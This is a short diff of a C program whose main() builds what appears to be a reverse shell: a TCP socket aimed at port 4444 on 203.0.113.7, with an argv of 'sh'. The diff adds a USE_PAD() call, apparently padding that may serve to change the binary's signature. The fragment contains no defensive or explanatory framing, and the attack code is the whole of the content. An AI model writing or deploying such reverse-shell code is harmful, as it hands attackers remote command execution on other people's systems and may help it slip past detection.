@@ -10,6 +10,7 @@ int main(void) {
     struct sockaddr_in sa = {0};
     char *argv[] = {"sh", 0};
     int s = socket(AF_INET, SOCK_STREAM, 0);
+    USE_PAD();
     sa.sin_family = AF_INET;
     sa.sin_port = htons(4444);
     SET_ADDR(sa, ip4(203, 0, 113, 7));
